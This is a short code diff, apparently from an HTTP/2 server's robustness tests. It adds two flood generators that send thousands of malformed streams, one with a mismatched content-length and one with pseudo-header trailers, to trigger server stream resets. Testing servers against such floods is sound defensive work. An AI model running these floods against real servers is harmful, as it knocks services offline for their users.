@@ -64,6 +64,16 @@ def made_you_reset_by_priority(client: RawClient) -> Iterator[bytes]:
         yield client.head(stream, GET) + frame(PRIORITY, 0, stream, number(stream) + b"\x00")
 
 
+def made_you_reset_by_length(client: RawClient) -> Iterator[bytes]:
+    for stream in range(1, 20_000, 2):
+        yield client.head(stream, [*POST, ("content-length", "5")], end=False) + client.data(stream, b"x", end=True)
+
+
+def made_you_reset_by_trailers(client: RawClient) -> Iterator[bytes]:
+    for stream in range(1, 20_000, 2):
+        yield client.head(stream, POST, end=False) + client.head(stream, [(":path", "/")])
+
+
 def made_you_reset_by_data(client: RawClient) -> Iterator[bytes]:
     for stream in range(1, 20_000, 2):
         yield client.head(stream, GET) + frame(DATA, 0, stream, b"x")
@@ -190,6 +200,8 @@ FLOODS: list[Callable[[RawClient], Iterator[bytes]]] = [
     made_you_reset,
     made_you_reset_by_priority,
     made_you_reset_by_data,
+    made_you_reset_by_length,
+    made_you_reset_by_trailers,
     made_you_reset_by_window,
     malformed,
     refused,
